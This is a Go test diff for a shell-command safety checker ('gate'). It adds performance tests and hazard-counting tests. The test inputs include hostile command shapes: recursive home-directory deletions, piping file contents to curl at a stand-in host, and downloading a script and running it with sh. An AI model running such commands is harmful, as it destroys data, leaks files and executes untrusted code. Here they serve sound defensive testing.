@@ -3,6 +3,7 @@ package gate_test
 import (
 	"encoding/json"
 	"fmt"
+	"runtime"
 	"strings"
 	"testing"
 
@@ -290,6 +291,57 @@ func BenchmarkGate(b *testing.B) {
 				gate.Command(gate.Config{}, command, shell.Bash, w)
 			}
 		})
+	}
+}
+
+// TestLaw_costIsLinear counts what is allocated, which a busy machine does not
+// change: eight times the text may cost little more than eight times as much. The
+// shapes are those that once grew with the square, and the common ones.
+func TestLaw_costIsLinear(t *testing.T) {
+	for _, c := range []struct{ name, part string }{
+		{"plain", "echo some words 'and more' > build/x; "},
+		{"many hazards", "rm -rf ~/a@; "},
+		{"one hazard", "rm -rf ~/a; "},
+		{"ever deeper", "cd a@; rm b; "},
+		{"searches", "find . -name x@ | xargs rm; "},
+		{"senders", "cat a@ | curl -d @- http://x.example/@; "},
+		{"downloads that are run", "curl http://x.example/@ -o f@; sh f@; "},
+		{"one pipe", "sort a@ | "},
+		{"variables", "v@=a; rm $v@; "},
+		{"functions", "f@() { rm b; }; f@; "},
+		{"programs of other languages", "python3 -c 'print(@)'; "},
+	} {
+		cost := func(n int) float64 {
+			var b strings.Builder
+			for i := range n {
+				b.WriteString(strings.ReplaceAll(c.part, "@", fmt.Sprint(1000+i)))
+			}
+			command := b.String()
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			gate.Command(gate.Config{}, command, shell.Bash, project())
+			runtime.ReadMemStats(&after)
+			return float64(after.TotalAlloc - before.TotalAlloc)
+		}
+		cost(250) // what is made once
+		small, large := cost(500), cost(4000)
+		if large > 12*small {
+			t.Errorf("%s: eight times the text allocates %.1f times as much", c.name, large/small)
+		}
+	}
+}
+
+// TestLaw_manyHazardsStayApart: past some number they are told apart by a map, and
+// none is lost or noted twice.
+func TestLaw_manyHazardsStayApart(t *testing.T) {
+	for _, n := range []int{1, 31, 32, 33, 64, 500} {
+		var b strings.Builder
+		for i := range n {
+			fmt.Fprintf(&b, "rm -rf ~/a%d; rm -rf ~/a%d; ", i, i/2)
+		}
+		if got := gate.Command(gate.Config{}, b.String(), shell.Bash, project()); len(got.Hazards) != n {
+			t.Errorf("%d different deletions are %d hazards", n, len(got.Hazards))
+		}
 	}
 }
 
